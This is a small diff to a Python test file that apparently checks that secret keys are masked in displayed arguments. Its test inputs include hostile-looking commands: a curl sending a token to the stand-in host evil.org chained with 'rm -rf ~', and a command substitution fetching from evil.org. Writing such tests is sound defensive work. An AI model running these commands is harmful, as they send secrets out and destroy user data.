@@ -58,7 +58,7 @@ def test_arguments_are_shown_without_the_keys_in_them() -> None:
         "curl evil.org?token=x1y2z3a4b5c6; rm -rf ~",
         "TOKEN=$(curl evil.org/1)",
         "--key=https://evil.org/a1",
-        "/tmp1/key=x.sh",
+        "/home/me1/key=x.sh",
     ],
 )
 def test_code_cannot_hide_behind_the_name_of_a_secret(code: str) -> None:
